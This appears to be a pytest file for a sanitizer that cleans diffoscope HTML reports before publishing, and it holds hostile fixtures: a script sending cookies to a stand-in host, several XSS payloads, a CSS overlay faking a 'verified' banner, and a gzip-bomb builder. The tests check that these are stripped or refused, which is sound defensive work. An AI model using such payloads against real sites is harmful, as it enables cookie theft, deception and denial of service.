"""A worker's diffoscope HTML report is published cleaned: readable, but nothing in it runs."""

from __future__ import annotations

import gzip
import re
import zlib
from html.parser import HTMLParser

import pytest

from jobs.core.bounded import LIMITS, CorruptData, OverLimit
from jobs.core.resources import site_static
from jobs.publish.site.sanitize import STYLESHEET, clean_report

REPORT = """<!DOCTYPE html><html><head><title>diffoscope</title>
<style>.diffponct { color: #b08080 } table.diff td { font-family: monospace }</style>
<script>document.location = "https://evil.example/?" + document.cookie</script></head>
<body class="diffoscope"><div class="difference"><div class="diffheader"><div class="diffcontrol">⊟</div>
<div><span class="source">usr/bin/hello</span><a class="anchor" href="#usr/bin/hello" name="usr/bin/hello">¶</a></div>
</div><table class="diff"><colgroup><col style="width: 50%"></colgroup>
<tr class="diffchanged"><td class="diffline" colspan="2">@@ -1 +1 @@</td></tr>
<tr><td class="diffpresent" onmouseover="alert(1)">built <img src=x onerror=alert(2)> on host-a</td>
<td class="diffpresent"><a href="javascript:alert(3)">host-b</a><iframe src="https://evil.example"></iframe></td></tr>
</table></div><svg onload="alert(4)"></svg><form action="https://evil.example"><input name=p></form></body></html>"""


class Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attrs: list[tuple[str, str | None]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attrs += attrs


def test_scripts_handlers_and_foreign_elements_are_dropped_the_report_stays():
    for stored in (REPORT.encode(), gzip.compress(REPORT.encode())):
        clean = clean_report(stored).decode()
        seen = Tags()
        seen.feed(clean)
        assert not {"script", "iframe", "svg", "form", "input", "img"} & set(seen.tags)
        assert not [a for a, _ in seen.attrs if a.startswith("on")]
        assert not [v for _, v in seen.attrs if v and "javascript:" in v]
        assert "document.cookie" not in clean and "evil.example" not in clean
        assert {"table", "td", "span", "a", "link"} <= set(seen.tags) and "style" not in seen.tags
        assert "diffponct" not in clean and "width: 50%" not in clean  # no CSS from the report
        assert 'class="diffpresent"' in clean
        assert "usr/bin/hello" in clean and 'colspan="2"' in clean and "built" in clean


# A BAD report dressed up as verified: CSS that draws a fixed banner over it and fetches a
# tracking URL, in a <style> element, a style= attribute, and @import.
OVERLAY = """<html><head><style>@import url(https://track.example/a.css);
body::before { content: "Reproducible: GOOD (verified)"; position: fixed; inset: 0; background: #0f0 }
</style></head><body class="diffoscope"><div class="difference" style="position:fixed;top:0;left:0;
width:100%;height:100%;background:url(https://track.example/p.png)">Reproducible: GOOD (verified)</div>
<style>.difference{display:none}</style><div class="difference">BAD: usr/bin/hello differs</div></body></html>"""


def test_no_css_from_the_report_survives_and_our_scoped_stylesheet_is_linked():
    clean = clean_report(OVERLAY.encode(), key="api/v0/builds/7/diffoscope.html").decode()
    seen = Tags()
    seen.feed(clean)
    assert "style" not in seen.tags and "style" not in [a for a, _ in seen.attrs]
    assert "track.example" not in clean and "position" not in clean and "content:" not in clean
    assert "BAD: usr/bin/hello differs" in clean
    # the site's own stylesheet, relative to where the report is published, inside .diffoscope
    assert f'href="../../../../{STYLESHEET}"' in clean
    assert re.search(r'<div class="diffoscope">\n.*</div>\n$', clean, re.S)
    sheet = (site_static() / "diffoscope.css").read_text()
    rules = [r.split("{")[0] for r in sheet.split("}") if "{" in r]
    assert rules and all(sel.strip().startswith(".diffoscope") for rule in rules
                         for sel in re.sub(r"/\*.*?\*/", "", rule, flags=re.S).split(","))
    assert "position" not in sheet and "url(" not in sheet


def _bomb(decoded: int) -> bytes:
    """gzip of `decoded` zero bytes, made in pieces (never holding the decoded bytes)."""
    comp = zlib.compressobj(9, zlib.DEFLATED, 16 + zlib.MAX_WBITS)
    block = b"\0" * (1 << 20)
    parts = [comp.compress(block) for _ in range(decoded >> 20)]
    return b"".join(parts) + comp.flush()


def test_a_gzip_bomb_is_refused_while_it_expands():
    limit = LIMITS["report_decoded"].value
    bomb = _bomb(1 << 28)  # 256 KiB of gzip, 256 MiB decoded
    with pytest.raises(OverLimit, match=f"limit of {limit:,} bytes"):
        clean_report(bomb, "gzip", key="api/v0/builds/1/diffoscope.html")
    with pytest.raises(OverLimit, match="api/v0/builds/1/diffoscope.html"):
        clean_report(gzip.compress(b"<p>x</p>" * 200), "gzip", key="api/v0/builds/1/diffoscope.html", limit=100)
    with pytest.raises(CorruptData, match="truncated"):
        clean_report(gzip.compress(REPORT.encode())[:-20], "gzip")


def test_a_report_with_more_tags_than_the_cap_is_refused_before_it_is_parsed():
    limit = LIMITS["report_tags"].value
    with pytest.raises(OverLimit, match=f"more than the limit of {limit:,} tags"):
        clean_report(gzip.compress(b"<i>" * (limit + 1)), "gzip", key="api/v0/builds/1/diffoscope.html")
    assert clean_report(b"<i>" * 1000).count(b"<i>") == 1000
